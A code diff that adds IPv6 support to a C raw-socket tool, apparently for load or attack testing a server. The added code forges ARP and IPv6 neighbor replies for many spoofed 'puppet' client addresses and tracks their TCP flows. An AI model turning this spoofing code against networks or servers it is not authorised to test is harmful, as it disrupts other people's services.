@@ -76,7 +76,7 @@ void sync_up(struct attack *a)
 	a->syncing = true;
 	a->sync++;
 	while (a->sync_heard != a->sync && now_ns() < until) {
-		send_icmp(a, SYNC_IP, ICMP_ECHO, 0,
+		send_icmp(a, SYNC_IP, a->v6 ? ICMP6_ECHO : ICMP_ECHO, 0,
 			  (u32)SYNC_ID << 16 | a->sync, "", 0);
 		a->sent--;
 		flush(a);
@@ -116,9 +116,29 @@ static void hear_arp(struct attack *a, const u8 *frame)
 	    build_arp(a, answer, arp->sha, ARP_REPLY, a->mac, asked, a->ix));
 }
 
+/* The same of IPv6: solicitations to puppets; and the server's address. */
+static void hear_nd(struct attack *a, const struct ipv6_hdr *ip,
+		    const struct nd_hdr *nd, const u8 *mac)
+{
+	u32 asked = addr_of(nd->target);
+
+	if (nd->type == ND_ADVERT && asked == a->ix)
+		memcpy(a->ix_mac, mac, 6);
+	if (nd->type != ND_SOLICIT || !is_puppet(asked) ||
+	    (a->silent_arp && asked != SYNC_IP))
+		return;
+	send_nd(a, &(struct nd_lie){ .type = ND_ADVERT,
+				     .flags = ND_F_SOLICITED | ND_F_OVERRIDE,
+				     .src = nd->target,
+				     .dst = ip->src,
+				     .target = nd->target,
+				     .option = ND_OPT_TARGET,
+				     .mac = a->mac });
+}
+
 /* Of a client, or of the server to it. */
-static void follow(struct attack *a, const struct ipv4_hdr *ip,
-		   const struct tcp_hdr *t, u32 len, bool to_ix)
+static void follow(struct attack *a, u32 from, const struct tcp_hdr *t, u32 len,
+		   bool to_ix)
 {
 	struct attack_flow *f =
 		&a->flows[be16_host(to_ix ? t->sport : t->dport)];
@@ -134,7 +154,7 @@ static void follow(struct attack *a, const struct ipv4_hdr *ip,
 			f->to_client = end;
 		return;
 	}
-	f->ip = be32_host(ip->src);
+	f->ip = from;
 	if ((s32)(end - f->to_ix) > 0)
 		f->to_ix = end;
 	if (!(t->flags & TCP_SYN) && t->off >> 4 == 8) {
@@ -146,36 +166,82 @@ static void follow(struct attack *a, const struct ipv4_hdr *ip,
 	}
 }
 
-static void hear_ip(struct attack *a, const u8 *frame, u32 got)
-{
-	const struct ipv4_hdr *ip = (const void *)(frame + ETH_LEN);
-	u32 src = be32_host(ip->src), dst = be32_host(ip->dst);
-	u32 total = be16_host(ip->len), len;
-	const struct tcp_hdr *t = (const void *)(ip + 1);
-	const struct icmp_hdr *icmp = (const void *)(ip + 1);
+struct heard {
+	u32 src, dst, len; /* len: behind IP's header, as it says */
+	u8 proto;
+	const void *l4;
+};
 
-	if (ip->proto == IP_PROTO_ICMP && src == a->ix && dst == SYNC_IP &&
-	    icmp->type == ICMP_ECHO_REPLY &&
+static void hear_icmp(struct attack *a, const struct heard *h)
+{
+	const struct icmp_hdr *icmp = h->l4;
+	u8 reply = a->v6 ? ICMP6_ECHO_REPLY : ICMP_ECHO_REPLY;
+
+	if (h->src != a->ix)
+		return;
+	if (h->dst == SYNC_IP && icmp->type == reply &&
 	    be32_host(icmp->rest) >> 16 == SYNC_ID)
 		a->sync_heard = (u16)be32_host(icmp->rest);
-	if (ip->proto != IP_PROTO_TCP || got < ETH_LEN + IPV4_LEN + TCP_LEN)
-		return;
-	len = total - IPV4_LEN - (u32)(t->off >> 4) * 4;
-	if (src == a->ix && is_puppet(dst))
-		puppet_hears(a, ip, t, len);
-	else if (src == a->ix || dst == a->ix)
-		follow(a, ip, t, len, dst == a->ix);
+	a->errors +=
+		a->v6 && is_puppet(h->dst) && icmp->type < ICMP6_ERRORS_END;
+}
+
+static void hear_tcp(struct attack *a, const struct heard *h)
+{
+	const struct tcp_hdr *t = h->l4;
+	u32 len = h->len - (u32)(t->off >> 4) * 4;
+
+	if (h->src == a->ix && is_puppet(h->dst))
+		puppet_hears(a, h->dst, t, len);
+	else if (h->src == a->ix || h->dst == a->ix)
+		follow(a, h->src, t, len, h->dst == a->ix);
+}
+
+static void hear_ip(struct attack *a, const struct heard *h, u32 got)
+{
+	if (h->proto == (a->v6 ? IP_PROTO_ICMP6 : IP_PROTO_ICMP))
+		hear_icmp(a, h);
+	else if (h->proto == IP_PROTO_TCP && got >= head_len(a) + TCP_LEN)
+		hear_tcp(a, h);
+}
+
+static void hear_ip4(struct attack *a, const struct ipv4_hdr *ip, u32 got)
+{
+	hear_ip(a,
+		&(struct heard){ .src = be32_host(ip->src),
+				 .dst = be32_host(ip->dst),
+				 .len = be16_host(ip->len) - (u32)IPV4_LEN,
+				 .proto = ip->proto,
+				 .l4 = ip + 1 },
+		got);
+}
+
+static void hear_ip6(struct attack *a, const u8 *frame, u32 got)
+{
+	const struct ipv6_hdr *ip = (const void *)(frame + ETH_LEN);
+
+	if (ip->next == IP_PROTO_ICMP6 && got >= ETH_LEN + IPV6_LEN + ND_LEN)
+		hear_nd(a, ip, (const void *)(ip + 1), frame + 6);
+	hear_ip(a,
+		&(struct heard){ .src = addr_of(ip->src),
+				 .dst = addr_of(ip->dst),
+				 .len = be16_host(ip->len),
+				 .proto = ip->next,
+				 .l4 = ip + 1 },
+		got);
 }
 
 static void hear_frame(struct attack *a, const u8 *frame, u32 got)
 {
 	const struct eth_hdr *eth = (const void *)frame;
+	u16 type = got < head_len(a) + ICMP_LEN ? 0 : be16_host(eth->type);
 
-	if (got >= ETH_LEN + ARP_LEN && be16_host(eth->type) == ETH_TYPE_ARP)
+	if (type == ETH_TYPE_ARP)
 		hear_arp(a, frame);
-	else if (got >= ETH_LEN + IPV4_LEN + ICMP_LEN &&
-		 be16_host(eth->type) == ETH_TYPE_IPV4)
-		hear_ip(a, frame, got);
+	else if (type == ETH_TYPE_IPV4 && !a->v6)
+		hear_ip4(a, (const void *)(frame + ETH_LEN), got);
+	else if (type == ETH_TYPE_IPV6 && a->v6)
+		hear_ip6(a, frame, got);
 }
 
 void hear(struct attack *a, int ms)
@@ -204,16 +270,18 @@ void hear(struct attack *a, int ms)
 
 /* The clients' large segments stay out: they would fill the socket, and small
  * ones tell where their connections stand. */
-static void hear_less(int fd)
+static void hear_less(const struct attack *a)
 {
 	enum { ALL = 128 }; /* bytes: headers */
-	static struct sock_filter code[] = {
+	/* An address of IPv6 has that of IPv4 behind its first four bytes. */
+	const u32 dst = ETH_LEN + (a->v6 ? 28 : 16);
+	struct sock_filter code[] = {
 		BPF_STMT(BPF_LD | BPF_W | BPF_LEN, 0),
 		BPF_JUMP(BPF_JMP | BPF_JGT | BPF_K, 200, 0, 7),
 		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, ETH_LEN + 12), /* source */
 		BPF_STMT(BPF_ALU | BPF_AND | BPF_K, ~(PUPPET_ADDRS - 1u)),
 		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, PUPPET_NET, 4, 0),
-		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, ETH_LEN + 16),
+		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, dst),
 		BPF_STMT(BPF_ALU | BPF_AND | BPF_K, ~(PUPPET_ADDRS - 1u)),
 		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, PUPPET_NET, 1, 0),
 		BPF_STMT(BPF_RET | BPF_K, 0),
@@ -221,7 +289,22 @@ static void hear_less(int fd)
 	};
 	const struct sock_fprog p = { ARRAY_SIZE(code), code };
 
-	setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &p, sizeof(p));
+	setsockopt(a->fd, SOL_SOCKET, SO_ATTACH_FILTER, &p, sizeof(p));
+}
+
+/* Where is the server? */
+static void ask(struct attack *a)
+{
+	if (a->v6)
+		send_nd(a,
+			&(struct nd_lie){ .type = ND_SOLICIT,
+					  .src = addr6(SYNC_IP),
+					  .dst = solicited_node(addr6(a->ix)),
+					  .target = addr6(a->ix),
+					  .option = ND_OPT_SOURCE,
+					  .mac = a->mac });
+	else
+		send_arp(a, ARP_REQUEST, a->mac, SYNC_IP, a->ix);
 }
 
 int wire_open(struct attack *a, const char *iface)
@@ -238,11 +321,11 @@ int wire_open(struct attack *a, const char *iface)
 		return -errno;
 	if (setsockopt(a->fd, SOL_SOCKET, SO_RCVBUFFORCE, &room, sizeof(room)))
 		setsockopt(a->fd, SOL_SOCKET, SO_RCVBUF, &room, sizeof(room));
-	hear_less(a->fd);
+	hear_less(a);
 	memcpy(a->mac, (u8[6]){ 2, 0x66, 0, 0, 0, 1 }, 6);
 	memcpy(a->ix_mac, everyone, 6);
 	for (int i = 0; i < 300 && a->ix_mac[0] == 255; i++) {
-		send_arp(a, ARP_REQUEST, a->mac, SYNC_IP, a->ix);
+		ask(a);
 		flush(a);
 		hear(a, 20);
 	}
